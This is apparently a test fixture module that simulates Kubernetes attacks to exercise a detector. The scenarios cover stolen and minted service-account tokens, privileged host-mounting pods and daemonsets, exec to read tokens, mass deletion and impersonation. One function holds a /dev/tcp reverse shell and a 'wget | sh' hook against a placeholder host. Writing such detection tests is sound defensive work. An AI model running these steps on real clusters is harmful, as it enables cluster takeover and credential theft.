/** Attacks of the kinds that are described elsewhere and shown in no bundled file. Each returns the clients it used. */
import { setTimeout } from 'node:timers';

import { deployment } from './cluster.mjs';

const API = '/api/v1/namespaces';
const APPS = '/apis/apps/v1/namespaces';
const JOBS = '/apis/batch/v1/namespaces';

/** A pod's token is used from another host, with the pod's own user agent, for what the pod asks anyway. */
export async function tokenElsewhere(cluster) {
  const [victim] = cluster.pods.get('media/thumbnailer');
  const thief = cluster.as(victim.token, '127.99.4.7', 'thumbnailer/1.4');
  for (const path of ['configmaps/thumb-config', 'pods?labelSelector=app%3Dthumbnailer', 'services']) {
    await thief.get(`${API}/media/${path}`);
    await victim.client.get(`${API}/media/configmaps/thumb-config`);
    await pause(900);
  }
  return [thief];
}

/** An account that never did makes privileged pods, and goes into pods of others. */
export async function privilegedAndExec(cluster) {
  const [runner] = cluster.pods.get('tools/chart-runner');
  const intruder = cluster.as(runner.token, runner.address, 'chart-runner/1.4');
  const host = { name: 'host', hostPath: { path: '/' } };
  const container = {
    name: 'c',
    image: 'registry.example.org/tools:1',
    command: ['sleep', '86400'],
    securityContext: { privileged: true },
    volumeMounts: [{ name: 'host', mountPath: '/host' }],
  };
  await intruder.post(`${API}/ops/pods`, {
    metadata: { name: 'debug-1' },
    spec: { serviceAccountName: 'sweeper', hostPID: true, containers: [container], volumes: [host] },
  });
  await pause(700);
  const spec = { hostNetwork: true, hostPID: true, containers: [container], volumes: [host] };
  const { metadata, spec: made } = deployment('node-agent', spec);
  await intruder.post(`${APPS}/ops/daemonsets`, {
    metadata,
    spec: { selector: made.selector, template: made.template },
  });
  await pause(700);
  const [ledger] = cluster.pods.get('billing/ledger');
  await intruder.exec('billing', ledger.name, 'sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token');
  await pause(400);
  const [thumbnailer] = cluster.pods.get('media/thumbnailer');
  await intruder.exec('media', thumbnailer.name, 'sh');
  return [intruder];
}

/** Exec alone, by an account that may and never did, without a word in the command that gives it away. */
export async function execAlone(cluster) {
  const [runner] = cluster.pods.get('tools/chart-runner');
  const intruder = cluster.as(runner.token, runner.address, 'chart-runner/1.4');
  for (const account of ['billing/ledger', 'media/thumbnailer', 'ops/sweeper']) {
    const [pod] = cluster.pods.get(account);
    await intruder.exec(pod.namespace, pod.name, 'sh');
    await pause(600);
  }
  return [intruder];
}

/** A token is minted for another, stronger account, and then used. */
export async function mintedToken(cluster) {
  const [runner] = cluster.pods.get('tools/chart-runner');
  const minter = cluster.as(runner.token, runner.address, 'chart-runner/1.4');
  const answer = await minter.post(`${API}/ops/serviceaccounts/breakglass/token`, { spec: { audiences: null } });
  if (answer.status !== 201) throw new Error(`the token was refused: ${answer.status}`);
  await pause(500);
  const borrowed = cluster.as(answer.body.status.token, runner.address, 'chart-runner/1.4');
  for (const path of ['/api/v1/secrets', `${API}/ops/secrets/backup-key`, '/api/v1/nodes']) {
    await borrowed.get(path);
    await pause(400);
  }
  return [minter, borrowed];
}

/** The same for an account that is busy every day from its pods: only where the token came from tells. */
export async function mintedForBusyAccount(cluster) {
  const [runner] = cluster.pods.get('tools/chart-runner');
  const minter = cluster.as(runner.token, runner.address, 'chart-runner/1.4');
  const answer = await minter.post(`${API}/billing/serviceaccounts/ledger/token`, { spec: { audiences: null } });
  await pause(500);
  const borrowed = cluster.as(answer.body.status.token, runner.address, 'ledger/1.4');
  for (let n = 0; n < 3; n++) {
    await borrowed.get(`${API}/billing/secrets/ledger-db`);
    await pause(400);
  }
  return [minter, borrowed];
}

/** Everything in a namespace is deleted by an account that deletes a ConfigMap now and then. */
export async function massDeletion(cluster) {
  const [gitops] = cluster.pods.get('tools/gitops');
  const intruder = cluster.as(gitops.token, gitops.address, 'gitops/1.4');
  const found = await cluster.admin.get(`${API}/media/configmaps`);
  const names = found.body.items.map(({ metadata }) => metadata.name).filter((name) => name.startsWith('page-'));
  for (const name of names) await intruder.delete(`${API}/media/configmaps/${name}`);
  for (const name of ['gallery', 'uploads', 'thumbnailer']) await intruder.delete(`${APPS}/media/deployments/${name}`);
  return [intruder];
}

/** The objects that `massDeletion` takes away are there before, made by an admin. */
export async function plant(cluster) {
  for (let n = 0; n < 20; n++)
    await cluster.admin.post(`${API}/media/configmaps`, { metadata: { name: `page-${n}` }, data: { page: String(n) } });
}

/** Reverse shells and downloads in commands, a hook, and a JSON patch, by accounts that deploy every day. */
export async function injectedProgram(cluster) {
  const [ledger] = cluster.pods.get('billing/ledger');
  const intruder = cluster.as(ledger.token, ledger.address, 'ledger/1.4');
  const command = ['sh', '-c', 'exec 3<>/dev/tcp/198.51.100.9/4444; cat <&3 | sh >&3'];
  const container = { name: 'r', image: 'registry.example.org/statement:2', command };
  await intruder.post(`${JOBS}/billing/jobs`, {
    metadata: { name: 'statement-99999' },
    spec: { template: { spec: { containers: [container], restartPolicy: 'Never' } } },
  });
  await pause(500);
  const [gitops] = cluster.pods.get('tools/gitops');
  const deployer = cluster.as(gitops.token, gitops.address, 'gitops/1.4');
  const hook = { postStart: { exec: { command: ['sh', '-c', 'wget -qO- http://198.51.100.9/a | sh'] } } };
  await deployer.jsonPatch(`${APPS}/billing/deployments/invoices`, [
    { op: 'add', path: '/spec/template/spec/containers/0/lifecycle', value: hook },
  ]);
  return [intruder, deployer];
}

/** Somebody acts as another user. */
export async function impersonation(cluster) {
  const ines = cluster.person('ines', '127.0.50.10');
  for (const path of [`${API}/billing/secrets`, `${API}/ops/secrets`, '/api/v1/nodes']) {
    await ines.ask('GET', path, undefined, { 'impersonate-user': 'system:serviceaccount:ops:breakglass' });
    await pause(300);
  }
  return [ines];
}

function pause(ms) {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
